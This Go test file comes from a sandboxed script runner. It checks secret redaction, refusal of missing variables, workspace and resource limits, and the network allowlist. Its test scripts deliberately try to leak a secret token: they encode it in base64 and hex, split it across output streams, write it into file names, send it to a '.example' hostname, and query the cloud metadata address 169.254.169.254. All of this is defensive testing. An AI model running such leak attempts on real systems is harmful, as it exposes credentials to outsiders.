package session

import (
	"context"
	"errors"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/skillsd/skillsd/provenance"
	"github.com/skillsd/skillsd/provenance/redact"
	"github.com/skillsd/skillsd/sandbox"
	"github.com/skillsd/skillsd/sandbox/egress"
	"github.com/skillsd/skillsd/sandbox/native"
	"github.com/skillsd/skillsd/skills/policy"
)

const theSecret = "Zq7#Kw9!Xv5&Jh3?mN"

// granting is a bench whose script runs in a real sandbox with what entry grants.
func granting(t *testing.T, entry policy.Entry, body string) *bench {
	t.Helper()
	b := newBench(t, benchOptions{policy: direct})
	if err := os.WriteFile(filepath.Join(b.root, "demo/scripts/ok.sh"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := b.cfg.Registry.Rescan(t.Context()); err != nil {
		t.Fatal(err)
	}
	entry.Skill, entry.Path = "demo", "scripts/ok.sh"
	allowed, err := policy.NewAllowlist([]policy.Entry{entry})
	if err != nil {
		t.Fatal(err)
	}
	b.setPolicy(policy.New(policy.Config{Role: policy.DirectCommand, Allowlist: allowed, Release: policy.ReleaseObserved,
		Tools: []string{"load_skill", "run_skill_script", "resources/read"}}))
	b.cfg.Runner = func(context.Context) (sandbox.Runner, error) { return native.New(nil), nil }
	b.cfg.Interpreter = func(_ context.Context, name string) (*sandbox.Interpreter, error) {
		path, err := filepath.EvalSymlinks("/usr/bin/" + name)
		return &sandbox.Interpreter{Name: name, Path: path}, err
	}
	b.cfg.Env = func(name string) (string, bool) { return "value of " + name, name != "MISSING" }
	b.rules.Load().Secret = func(name string) (string, error) {
		if name == "MISSING" {
			return "", errors.New("open /host/path: no such file")
		}
		return theSecret, nil
	}
	clear(b.rules.Load().trees)
	clear(b.rules.Load().pins)
	if err := b.Start(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	b.load("demo")
	// What is recorded beside the calls reads the configuration, which tests change.
	b.Current().background.Wait()
	return b
}

// everything is what of a run anyone could read afterwards: the answer and every file kept.
func (b *bench) everything(result *RunResult) string {
	b.t.Helper()
	all := result.Stdout.Head + result.Stdout.Tail + result.Stderr.Head + result.Stderr.Tail + string(encode(result.Output))
	for _, out := range result.Out {
		all += out.Name
	}
	b.Current().background.Wait()
	for e, err := range b.records.Events(b.t.Context(), provenance.Query{Session: b.Current().ID()}) {
		if err != nil {
			b.t.Fatal(err)
		}
		all += string(encode(e))
		for _, file := range e.Files {
			all += b.artifact(file.Name)
		}
	}
	return all
}

// A script that prints its secrets by accident shows none of them, however it does.
func TestSecretsOfScripts(t *testing.T) {
	for name, body := range map[string]string{
		"environment":        `env; env >&2`,
		"base64":             `env | base64; env | base64 -w0; printf %s "$TOKEN" | base64`,
		"hex":                `env | od -An -tx1; printf %s "$TOKEN" | od -An -v -tx1 | tr -d ' \n'`,
		"trace":              `set -x; x="--password $TOKEN"; : "$x"`,
		"two writes":         `printf 'Zq7#Kw9!X'; printf 'v5&Jh3?mN'; printf '%s' "$TOKEN" | head -c 9; printf '%s' "$TOKEN" | tail -c 9`,
		"both streams":       `printf %s "${TOKEN%?????????}"; printf %s "${TOKEN#?????????}" >&2`,
		"file":               `echo "a $TOKEN b" > /out/a.txt`,
		"file name":          `echo x > "/out/a-$TOKEN-b.txt"`,
		"name left behind":   `ln -s x "/out/a-$TOKEN-b"; echo x >"/out/$(printf 'a\nb')-$TOKEN"`,
		"binary file":        `printf '\000\377%s' "$TOKEN" > /out/a.bin`,
		"behind a mebibyte":  `i=0; while [ $i -lt 20000 ]; do printf '%s %060d\n' "$TOKEN" $i; i=$((i+1)); done`,
		"argument":           `echo "$2"`,
		"killed":             `printf %s "${TOKEN%??}"; kill -9 $$`,
		"wrong interpreter":  `python3 -c "import os; print(repr(os.environ['TOKEN'].encode())); os.environ['TOKEN'][99]"`,
		"what others are to": `echo "Zq7#Kw9!Xv5&Jh3?mN"`,
	} {
		t.Run(name, func(t *testing.T) {
			b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\n"+body+"\n")
			ses, call := b.call("run_skill_script")
			result, err := ses.RunScript(t.Context(), RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"--token", theSecret}})
			if err != nil {
				t.Fatal(err)
			}
			all := b.everything(result)
			if b.Secrets().Contains([]byte(all)) {
				t.Errorf("the secret is shown:\n%.2000s", all)
			}
			for i := 0; i+6 <= len(theSecret); i++ {
				if strings.Contains(all, theSecret[i:i+6]) {
					t.Errorf("%q of the secret is shown:\n%.2000s", theSecret[i:i+6], all)
				}
			}
			if !strings.Contains(all, "[secret TOKEN]") {
				t.Errorf("nothing says that a secret was there:\n%.2000s", all)
			}
			if x := result.Output.Skillsd; !x.Stdout.Redacted || strings.HasSuffix(name, "binary file") && (len(x.Out) != 1 || x.Out[0].Withheld == "" || x.Out[0].URI != "") {
				t.Errorf("the record does not say so: %+v", x)
			}
			if slices.Contains(b.ArtifactNames(t.Context(), call), "") {
				t.Error("a file that is withheld is among the artifacts, without a name")
			}
		})
	}
}

// What an entry names and the server has not is a refusal, never an empty variable.
func TestMissingVariables(t *testing.T) {
	for name, entry := range map[string]policy.Entry{
		"variable": {Env: []string{"GIVEN", "MISSING"}},
		"secret":   {Secrets: []string{"MISSING"}},
	} {
		t.Run(name, func(t *testing.T) {
			b := granting(t, entry, "#!/bin/sh\nenv\n")
			_, err := b.run("demo", "scripts/ok.sh")
			if code(err) != "env_denied" || !strings.Contains(err.Error(), "MISSING") || strings.Contains(err.Error(), "/host/path") {
				t.Errorf("RunScript = %v, want env_denied that names it and no path", err)
			}
			if events := b.events(); !strings.HasSuffix(events, "script_executed") {
				t.Errorf("events = %s", events)
			}
		})
	}
	b := granting(t, policy.Entry{Env: []string{"GIVEN"}}, "#!/bin/sh\necho \"$GIVEN\"\n")
	if result, err := b.run("demo", "scripts/ok.sh"); err != nil || result.Stdout.Head != "value of GIVEN\n" {
		t.Errorf("RunScript = %+v, %v", result, err)
	}
}

func TestShortSecret(t *testing.T) {
	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\n")
	b.rules.Load().Secret = func(string) (string, error) { return "abc", nil }
	if err := b.CheckEntries(t.Context()); err == nil || !errors.Is(err, redact.ErrSize) || strings.Contains(err.Error(), "abc") {
		t.Errorf("CheckEntries = %v, want %v", err, redact.ErrSize)
	}
	if _, err := b.run("demo", "scripts/ok.sh"); code(err) != "env_denied" {
		t.Errorf("RunScript = %v, want env_denied", err)
	}
}

// What the configuration lets through as a host is one for the proxy, or the server does not start.
func TestHostsOfEntries(t *testing.T) {
	for _, host := range []string{"a.example", "a.example:80", "10.0.0.1", "10.0.0.1:80", "::1", "[::1]:80", "localhost:8080", "a_b.example", "1.2.3.4a", "a.1", "::ffff:1.2.3.4"} {
		entry := policy.Entry{Skill: "demo", Path: "scripts/ok.sh", Network: []string{host}}
		allowed, err := policy.NewAllowlist([]policy.Entry{entry})
		if err != nil {
			t.Errorf("NewAllowlist(%q) = %v", host, err)
		}
		b := newBench(t, benchOptions{})
		b.setPolicy(policy.New(policy.Config{Allowlist: allowed}))
		_, bad := egress.ParseTargets(entry.Network)
		if err := b.CheckEntries(t.Context()); (err != nil) != (bad != nil) {
			t.Errorf("CheckEntries(%q) = %v", host, err)
		}
	}
}

// An entry's workspace, time and memory only narrow what the operator grants to all.
func TestEntryNarrows(t *testing.T) {
	modes := []sandbox.WorkspaceMode{"", sandbox.WorkspaceNone, sandbox.WorkspaceRO, sandbox.WorkspaceStaged, sandbox.WorkspaceRW}
	for _, granted := range modes {
		for _, asked := range modes {
			got := narrower(granted, policy.Entry{Workspace: string(asked)})
			if rank(got) > rank(granted) || asked != "" && rank(got) > rank(asked) {
				t.Errorf("narrower(%q, %q) = %q", granted, asked, got)
			}
		}
	}
	s := &Session{Sessions: New(Config{Policy: policy.New(policy.Config{})})}
	for _, tt := range []struct{ server, entry, call, want time.Duration }{
		{0, 0, 0, time.Minute},
		{0, 0, 5 * time.Minute, 5 * time.Minute},
		{0, 0, time.Hour, policy.MaxTimeout},
		{30 * time.Second, 0, 0, 30 * time.Second},
		{30 * time.Second, time.Minute, time.Minute, 30 * time.Second},
		{2 * time.Minute, 0, 0, 2 * time.Minute},
		{2 * time.Minute, 0, time.Second, time.Second},
		{0, 2 * time.Minute, 0, 2 * time.Minute},
		{0, 2 * time.Minute, 3 * time.Minute, 2 * time.Minute},
		{0, 2 * time.Minute, time.Second, time.Second},
	} {
		s.rules.Load().Limits.Timeout = tt.server
		if got := s.limits(s.rules.Load().Limits, tt.call, policy.Entry{Timeout: tt.entry}).Timeout; got != tt.want {
			t.Errorf("timeout(server %v, entry %v, call %v) = %v, want %v", tt.server, tt.entry, tt.call, got, tt.want)
		}
		if usual, most := s.Timeouts(); tt.entry+tt.call == 0 && usual != tt.want || most < tt.want {
			t.Errorf("Timeouts with %v = %v, %v", tt.server, usual, most)
		}
	}
	if got := s.limits(s.rules.Load().Limits, 0, policy.Entry{Memory: 1 << 40}).Memory; got != sandbox.DefaultLimits().Memory {
		t.Errorf("an entry's memory passes the server's: %d", got)
	}
	if got := s.limits(s.rules.Load().Limits, 0, policy.Entry{Memory: 64 << 20}).Memory; got != 64<<20 {
		t.Errorf("an entry's memory does not count: %d", got)
	}
}

func TestEntryWorkspace(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "there"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ entry, sees, records string }{
		{"", "/workspace there", "rw"}, {"ro", "/workspace there", "ro"}, {"none", "/out", "none"},
	} {
		b := granting(t, policy.Entry{Workspace: tt.entry}, "#!/bin/sh\necho $(pwd) $(ls /workspace 2>/dev/null)\ntouch /workspace/new 2>/dev/null\n")
		handle, err := os.Open(dir)
		if err != nil {
			t.Fatal(err)
		}
		defer handle.Close()
		b.cfg.Workspace = sandbox.Workspace{Mode: sandbox.WorkspaceRW, Dir: handle}
		if err := os.Chmod(dir, 0o777); err != nil {
			t.Fatal(err)
		}
		result, err := b.run("demo", "scripts/ok.sh")
		if err != nil {
			t.Fatal(err)
		}
		_, err = os.Stat(filepath.Join(dir, "new"))
		if written := !errors.Is(err, fs.ErrNotExist); result.Stdout.Head != tt.sees+"\n" || result.Output.Skillsd.Workspace != tt.records ||
			!strings.HasPrefix(tt.sees, result.Output.CWD) || written != (tt.entry == "") {
			t.Errorf("workspace %q: printed %q, recorded %q at %q, written %v", tt.entry, result.Stdout.Head, result.Output.Skillsd.Workspace, result.Output.CWD, written)
		}
		os.Remove(filepath.Join(dir, "new"))
	}
}

// A secret that a script writes into a staged workspace is not applied to it: the client reads what is there.
func TestStagedSecretIsWithheld(t *testing.T) {
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	handle, err := os.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer handle.Close()
	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\necho \"key: $TOKEN\" >leaked\necho fine >written\n")
	b.rules.Load().Secret = func(string) (string, error) { return "quite-secret-value", nil }
	b.cfg.Workspace = sandbox.Workspace{Mode: sandbox.WorkspaceStaged, Dir: handle}
	result, err := b.run("demo", "scripts/ok.sh")
	if err != nil {
		t.Fatal(err)
	}
	refused := map[string]string{}
	for _, w := range result.Output.Skillsd.Writes {
		refused[w.Path] = w.Refused
	}
	_, leaked := os.Stat(filepath.Join(dir, "leaked"))
	_, written := os.Stat(filepath.Join(dir, "written"))
	if refused["leaked"] != "holds a secret" || refused["written"] != "" || leaked == nil || written != nil {
		t.Errorf("writes %v; leaked: %v, written: %v; stderr %s", refused, leaked, written, result.Stderr.Head)
	}
}

// A run reaches what its entry lists, and the record says what it reached and what it tried to.
func TestEntryNetwork(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 3\r\n\r\nhi\n"))
			c.(*net.TCPConn).CloseWrite()
			c.Read(make([]byte, 1024))
			c.Close()
		}
	}()
	addr := l.Addr().String()
	body := `import os, sys, urllib.request, urllib.error
for url in sys.argv[1], "http://" + os.environ["TOKEN"].lower() + ".example/", "http://169.254.169.254/":
    try:
        print(urllib.request.urlopen(url).read())
    except urllib.error.HTTPError as e:
        print(e.code)
`
	b := granting(t, policy.Entry{Network: []string{addr}, Secrets: []string{"TOKEN"}}, "#!/usr/bin/python3\n"+body)
	b.rules.Load().Secret = func(string) (string, error) { return "quite-secret-name", nil }
	ses, call := b.call("run_skill_script")
	result, err := ses.RunScript(t.Context(), RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"http://" + addr}})
	if err != nil {
		t.Fatal(err)
	}
	if want := "b'hi\\n'\n403\n403\n"; result.Stdout.Head != want {
		t.Errorf("the script printed %q, want %q; stderr %s", result.Stdout.Head, want, result.Stderr.Head)
	}
	x := result.Output.Skillsd
	if x.Network != addr || len(x.Connections) != 3 || x.Connections[0].Address != addr || x.Connections[0].Received == 0 ||
		x.Connections[1].Host != "[secret TOKEN].example" || x.Connections[1].Refused != "not-listed" || x.Connections[2].Refused != "not-listed" {
		t.Errorf("recorded %q, %+v", x.Network, x.Connections)
	}
	if strings.Contains(b.everything(result), "quite-secret-name") {
		t.Error("the record of the connections holds the secret")
	}
}

// What a script asked for is its own words, and stays as opaque as its output.
func TestOpaqueNetwork(t *testing.T) {
	body := "#!/bin/sh\n(exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT told.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3)\n"
	b := granting(t, policy.Entry{Network: []string{"a.example"}, Release: policy.ReleaseOpaque}, strings.Replace(body, "sh", "bash", 1))
	result, err := b.run("demo", "scripts/ok.sh")
	if err != nil {
		t.Fatal(err)
	}
	if x := result.Output.Skillsd; len(x.Connections) != 0 || x.Network != "a.example" {
		t.Errorf("the answer tells of %+v", x.Connections)
	}
	if !strings.Contains(b.artifact(provenance.ScriptExecutionsFile), `"told.example"`) {
		t.Error("the record does not")
	}
}
